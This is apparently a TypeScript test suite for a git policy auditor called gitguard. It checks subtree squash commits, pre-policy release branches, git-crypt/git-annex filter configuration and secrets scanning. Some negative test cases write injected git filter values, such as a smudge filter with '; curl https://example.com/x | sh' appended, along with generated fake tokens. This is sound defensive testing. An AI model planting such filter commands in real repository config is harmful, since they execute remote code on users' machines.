// Nineteenth round of clean set-ups (see clean-workflows.test.ts to -18).
// - `git subtree add --squash` (and each `subtree pull --squash`) commits the other project's files as a
//   new root: an unrelated history, which no policy judges (by design, see clean-workflows-7's orphan
//   twin). gitguard stays strict there and README's troubleshooting table gives the two routes, checked
//   here: a maintainer goodlists the squashed commit(s), or the files come in as one ordinary signed
//   commit (`git read-tree --prefix`). Twins: a signer who is no maintainer cannot goodlist it.
// - `audit --all` on a repository that adopted gitguard with an old release branch holding commits of
//   its own from before: they are judged (their dates are all that says they are old), and README's
//   route (a maintainer goodlists what `git rev-list --no-merges <branch> --not main` lists) passes;
//   twin: a new unsigned commit on that branch still fails.
// - git-crypt and git-annex set up in a clone (`git-crypt init` / `unlock` write a filter and a diff
//   driver per key, `git annex init` its smudge filter, into .git/config, running the user's own tool):
//   no-code-execution-in-local-config failed (high) on each. Twins: another program, another
//   subcommand, a key name that is not the driver's, a command after the tool's, fail.
// - Content real repositories hold passes the secrets scan: package-lock.json's integrity hashes, an
//   .env.example of empty values, placeholders and local defaults, a Jupyter notebook whose outputs are
//   base64 images. Twins: a notebook output printing a live token, and a filled-in .env, still fail.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { cleanupTemp, copyRepo, makeRepo, type TestRepo } from '../helpers/repo.js';
import { sshSigningRepo } from '../helpers/signing-repo.js';
import { commitAsPerson, sharedSshKey } from '../helpers/ssh.js';
import { aliceAndBob, type Team } from '../helpers/team.js';
import { TokenFactory, rng } from '../helpers/secrets.js';
import { ROOT, runMain, parseJson, type JsonReport } from '../helpers/cli.js';

afterAll(() => cleanupTemp());

const POLICY =
  'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\nmaintainers: [Alice]\n';
const THREATS = ['--threat', 'impersonation,history,protections'];
async function audit(r: TestRepo, extra: string[] = []): Promise<{ code: number; report: JsonReport }> {
  const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-ledger', ...THREATS, ...extra], {
    env: r.env,
  });
  return { code: res.code, report: parseJson(res) };
}
const failing = (report: JsonReport): string[] =>
  report.results.filter((x) => x.outcome === 'fail' || x.outcome === 'error').map((x) => x.meta.id);
const findings = (report: JsonReport, id: string) => report.results.find((x) => x.meta.id === id)?.findings ?? [];

describe('git subtree --squash: the squashed commit is a new root, judged by no policy', () => {
  /** The vendored project: two unsigned commits by its own author. */
  function upstreamLib(): TestRepo {
    const lib = makeRepo();
    commitAsPerson(lib, undefined, 'dev@lib.example.org', 'init', { 'lib.c': 'int lib;\n' });
    lib.run(['branch', 'v1']);
    commitAsPerson(lib, undefined, 'dev@lib.example.org', 'v2', { 'lib.c': 'int lib(void);\n' });
    return lib;
  }

  /** What `git subtree add|pull --squash -S --prefix=vendor/lib` makes (its own commit-tree calls, signed). */
  function subtreeSquash(t: Team, lib: TestRepo, ref: string, previous?: string): string {
    const { r, alice } = t;
    r.run(['fetch', '-q', lib.dir, ref]);
    const split = r.run(['rev-parse', 'FETCH_HEAD']);
    const sign = ['-c', `user.signingkey=${alice.path}`, 'commit-tree', '-S'];
    const squash = r.run([...sign, 'FETCH_HEAD^{tree}', ...(previous ? ['-p', previous] : [])], {
      input: `Squashed 'vendor/lib/' content from commit ${split.slice(0, 7)}\n\ngit-subtree-dir: vendor/lib\ngit-subtree-split: ${split}\n`,
    });
    if (previous) r.run(['merge', '-q', '-S', `-Xsubtree=vendor/lib`, '-m', `Merge commit '${squash}'`, squash]);
    else {
      r.run(['read-tree', '--prefix=vendor/lib', squash]);
      const tree = r.run(['write-tree']);
      const merge = r.run([...sign, tree, '-p', 'HEAD', '-p', squash], {
        input: `Merge commit '${squash}' as 'vendor/lib'\n`,
      });
      r.run(['reset', '-q', '--hard', merge]);
    }
    return squash;
  }

  function team(): Team {
    const t = aliceAndBob({ 'SECURITY.md': 'Report to security@example.com\n' });
    t.r.config({ 'commit.gpgSign': 'true', 'tag.gpgSign': 'true' });
    return t;
  }

  test('add --squash fails signers-authorized at the squashed commit alone, saying to goodlist it; a goodlist entry of alice passes, and each pull --squash needs one', async () => {
    const t = team();
    const lib = upstreamLib();
    const first = subtreeSquash(t, lib, 'v1');
    const before = await audit(t.r);
    expect(failing(before.report)).toEqual(['signers-authorized']);
    expect(findings(before.report, 'signers-authorized').map((f) => f.commit)).toEqual([first]);
    expect(findings(before.report, 'signers-authorized')[0]!.message).toMatch(/unrelated history.*goodlist it/);

    const goodlist = (...ids: string[]) =>
      `${POLICY}goodlist:\n${ids.map((id) => `  - commit: ${id}\n    reason: git subtree --squash of lib, reviewed\n`).join('')}`;
    commitAsPerson(t.r, t.alice, 'alice@example.com', 'goodlist the subtree squash', {
      '.gitguard/policy.yml': goodlist(first),
    });
    expect(failing((await audit(t.r)).report)).toEqual([]);

    const second = subtreeSquash(t, lib, 'main', first);
    expect(findings((await audit(t.r)).report, 'signers-authorized').map((f) => f.commit)).toEqual([second]);
    commitAsPerson(t.r, t.alice, 'alice@example.com', 'goodlist the subtree pull', {
      '.gitguard/policy.yml': goodlist(first, second),
    });
    expect(failing((await audit(t.r)).report)).toEqual([]);
    // README's command for the ids to goodlist
    const listed = t.r.run(['log', '--format=%H', '--max-parents=1', '--grep=git-subtree-dir:']).split('\n');
    expect(listed.sort()).toEqual([first, second].sort());
  });

  test('twin: bob, a signer who is no maintainer, goodlisting it excuses nothing', async () => {
    const t = team();
    const squash = subtreeSquash(t, upstreamLib(), 'main');
    commitAsPerson(t.r, t.bob, 'bob@example.com', 'goodlist it myself', {
      '.gitguard/policy.yml': `${POLICY}goodlist:\n  - commit: ${squash}\n    reason: trust me\n`,
    });
    const { report } = await audit(t.r);
    expect(failing(report)).toEqual([
      'policy-changes-authorized',
      'protected-paths-changed-by-maintainers',
      'signers-authorized',
    ]);
    expect(findings(report, 'signers-authorized').map((f) => f.commit)).toContain(squash);
  });

  test('the other route: the files read in with git read-tree --prefix and committed signed, no new root, pass', async () => {
    const t = team();
    const lib = upstreamLib();
    t.r.run(['fetch', '-q', lib.dir, 'main']);
    t.r.run(['read-tree', '--prefix=vendor/lib/', '-u', 'FETCH_HEAD']);
    t.r.run(['commit', '-q', '-m', `vendor/lib at ${t.r.run(['rev-parse', 'FETCH_HEAD'])}`]);
    expect(t.r.run(['rev-list', '--max-parents=0', 'HEAD']).split('\n')).toHaveLength(1);
    expect(failing((await audit(t.r)).report)).toEqual([]);
  });
});

test('--all with an old release branch from before the policy: goodlisted as README says, it passes; twin: a new unsigned commit there fails', async () => {
  const r = makeRepo();
  const alice = sharedSshKey('alice');
  commitAsPerson(r, undefined, 'alice@example.com', 'v1.0', { 'src/a.txt': 'a\n' });
  r.run(['checkout', '-q', '-b', 'release-1.x']);
  const old = commitAsPerson(r, undefined, 'alice@example.com', 'backport, 2023', { 'src/a.txt': 'a, fixed\n' });
  r.run(['checkout', '-q', 'main']);
  const adopt = { '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\n`, 'SECURITY.md': 'Report here\n' };
  const policy = 'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\nmaintainers: [Alice]\n';
  r.config({ 'gpg.format': 'ssh', 'commit.gpgSign': 'true', 'tag.gpgSign': 'true' });
  commitAsPerson(r, alice, 'alice@example.com', 'adopt gitguard', { ...adopt, '.gitguard/policy.yml': policy });
  const before = await audit(r, ['--all']);
  expect(failing(before.report)).toEqual(['commits-signed']);
  expect(findings(before.report, 'commits-signed').map((f) => f.commit)).toEqual([old]);

  const listed = r.run(['rev-list', '--no-merges', 'release-1.x', '--not', 'main']).split('\n');
  expect(listed).toEqual([old]);
  const goodlist = listed
    .map((id) => `  - commit: ${id}\n    reason: release-1.x before gitguard, reviewed\n`)
    .join('');
  commitAsPerson(r, alice, 'alice@example.com', 'goodlist release-1.x', {
    '.gitguard/policy.yml': `${policy}goodlist:\n${goodlist}`,
  });
  expect(failing((await audit(r, ['--all'])).report)).toEqual([]);

  r.run(['checkout', '-q', 'release-1.x']);
  const later = commitAsPerson(r, undefined, 'alice@example.com', 'backport, unsigned', { 'src/a.txt': 'a, 2\n' });
  r.run(['checkout', '-q', 'main']); // audited from main, as its CI does
  const after = await audit(r, ['--all']);
  expect(failing(after.report)).toEqual(['commits-signed']);
  expect(findings(after.report, 'commits-signed').map((f) => f.commit)).toEqual([later]);
});

describe('git-crypt and git-annex set up in the repository', () => {
  // Byte for byte what git-crypt 0.7.0 (Debian's) writes for `git-crypt init` and `git-crypt init -k prod`.
  const GIT_CRYPT_CONFIG = [
    ['filter.git-crypt.smudge', '"git-crypt" smudge'],
    ['filter.git-crypt.clean', '"git-crypt" clean'],
    ['filter.git-crypt.required', 'true'],
    ['diff.git-crypt.textconv', '"git-crypt" diff'],
    ['filter.git-crypt-prod.smudge', '"git-crypt" smudge --key-name=prod'],
    ['filter.git-crypt-prod.clean', '"git-crypt" clean --key-name=prod'],
    ['filter.git-crypt-prod.required', 'true'],
    ['diff.git-crypt-prod.textconv', '"git-crypt" diff --key-name=prod'],
  ];
  // What git-annex 10 (Debian's) writes for `git annex init`, beside annex.uuid and annex.version.
  const GIT_ANNEX_CONFIG = [
    ['filter.annex.smudge', 'git-annex smudge -- %f'],
    ['filter.annex.clean', 'git-annex smudge --clean -- %f'],
    ['filter.annex.process', 'git-annex filter-process'],
  ];
  const rule = ['-r', 'no-code-execution-in-local-config'];
  const installed = (program: string, args: string[]): boolean => {
    try {
      execFileSync(program, args, { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  };

  test("the filters and diff drivers they write run the user's own tool: pass; twins fail", async () => {
    const r = sshSigningRepo(sharedSshKey('alice'));
    r.commit('encrypted paths', { '.gitattributes': 'secrets/** filter=git-crypt diff=git-crypt\n' });
    for (const [k, v] of GIT_CRYPT_CONFIG) r.run(['config', '--local', k!, v!]);
    for (const [k, v] of GIT_ANNEX_CONFIG) r.run(['config', '--local', k!, v!]);
    r.run(['config', '--local', 'annex.version', '10']);
    expect(failing((await audit(r, rule)).report)).toEqual([]);
    if (installed('git-annex', ['version'])) {
      const real = makeRepo();
      execFileSync('git', ['annex', 'init'], { cwd: real.dir, env: real.env, stdio: 'ignore' });
      expect(real.run(['config', '--local', '--get-regexp', '^filter\\.']).split('\n')).toEqual(
        GIT_ANNEX_CONFIG.map(([k, v]) => `${k} ${v}`),
      );
    }
    if (installed('git-crypt', ['--version'])) {
      // the real tool, when it is installed, writes the same
      const real = makeRepo();
      execFileSync('git-crypt', ['init'], { cwd: real.dir, env: real.env, stdio: 'ignore' });
      execFileSync('git-crypt', ['init', '-k', 'prod'], { cwd: real.dir, env: real.env, stdio: 'ignore' });
      expect(real.run(['config', '--local', '--get-regexp', 'git-crypt']).split('\n')).toEqual(
        GIT_CRYPT_CONFIG.map(([k, v]) => `${k} ${v}`),
      );
    }
    for (const [key, value] of [
      ['filter.git-crypt.smudge', '"git-crypt" smudge; curl https://example.com/x | sh'],
      ['filter.git-crypt.smudge', '"/tmp/git-crypt" smudge'],
      ['filter.git-crypt.smudge', '"git-crypt" clean'],
      ['filter.git-crypt-prod.clean', '"git-crypt" clean --key-name=other'],
      ['diff.git-crypt.command', '"git-crypt" diff'],
      ['diff.other.textconv', '"git-crypt" diff'],
      ['filter.annex.smudge', 'git-annex smudge -- %f; sh ./x'],
    ]) {
      const twin = copyRepo(r);
      twin.run(['config', '--local', key!, value!]);
      const { report } = await audit(twin, rule);
      expect({ key, value, failing: failing(report) }).toEqual({
        key,
        value,
        failing: ['no-code-execution-in-local-config'],
      });
    }
  });
});

describe('content real repositories hold: the secrets scan passes it', () => {
  const alice = () => sharedSshKey('alice');

  /** A Jupyter notebook (nbformat 4) whose outputs are PNG figures, base64 as Jupyter writes them. */
  function notebook(seed: number, extraOutput?: string): string {
    const next = rng(seed);
    const png = (n: number): string =>
      Buffer.concat([
        Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
        Buffer.from(Array.from({ length: n }, () => Math.floor(next() * 256))),
      ]).toString('base64');
    const figure = (n: number) => ({
      cell_type: 'code',
      execution_count: n,
      metadata: {},
      source: ['import matplotlib.pyplot as plt\n', `plt.plot(range(${n}))`],
      outputs: [
        {
          output_type: 'display_data',
          data: { 'image/png': `${png(60_000)}\n`, 'text/plain': ['<Figure size 640x480 with 1 Axes>'] },
          metadata: {},
        },
        ...(extraOutput ? [{ output_type: 'stream', name: 'stdout', text: [extraOutput] }] : []),
      ],
    });
    const nb = {
      cells: [figure(1), figure(2), figure(3)],
      metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } },
      nbformat: 4,
      nbformat_minor: 5,
    };
    return `${JSON.stringify(nb, null, 1)}\n`;
  }

  const ENV_EXAMPLE = [
    '# Copy to .env and fill in',
    'DATABASE_URL=',
    'DATABASE_URL_DEV=postgres://postgres:postgres@localhost:5432/app_dev',
    'REDIS_URL=redis://localhost:6379/0',
    'SECRET_KEY=',
    'AWS_ACCESS_KEY_ID=',
    'AWS_SECRET_ACCESS_KEY=',
    'GITHUB_TOKEN=',
    'STRIPE_SECRET_KEY=sk_test_',
    'SLACK_WEBHOOK_URL=',
    'SMTP_PASSWORD=changeme',
    'JWT_SECRET=change-me-in-production',
    'SENTRY_DSN=https://public@sentry.example.com/1',
    '',
  ].join('\n');

  function repoWith(files: Record<string, string>): TestRepo {
    const r = sshSigningRepo(alice());
    commitAsPerson(r, alice(), 'alice@example.com', 'content', files);
    return r;
  }

  test("package-lock.json (gitguard's own), an .env.example and a notebook of figures pass", async () => {
    const r = repoWith({
      'web/package-lock.json': readFileSync(join(ROOT, 'package-lock.json'), 'utf8'),
      '.env.example': ENV_EXAMPLE,
      'notebooks/analysis.ipynb': notebook(7),
    });
    const { code, report } = await audit(r, ['-r', 'secrets-not-in-history']);
    expect(failing(report)).toEqual([]);
    expect(code).toBe(0);
  });

  test('twins: a notebook output printing a live token, and the .env filled in, fail', async () => {
    const f = new TokenFactory(23);
    const token = f.checksummed('ghp_');
    const aws = f.awsPair();
    const r = repoWith({
      'notebooks/analysis.ipynb': notebook(7, `token: ${token}\n`),
      '.env': `${ENV_EXAMPLE}AWS_ACCESS_KEY_ID=${aws.id}\nAWS_SECRET_ACCESS_KEY=${aws.secret}\n`,
    });
    const { report } = await audit(r, ['-r', 'secrets-not-in-history']);
    expect(failing(report)).toEqual(['secrets-not-in-history']);
    const where = findings(report, 'secrets-not-in-history').map((x) => x.message.match(/at ([^:]+):/)?.[1]);
    expect([...new Set(where)].sort()).toEqual(['.env', 'notebooks/analysis.ipynb']); // the token in each cell's output
    expect(JSON.stringify(report)).not.toContain(token);
  });
});
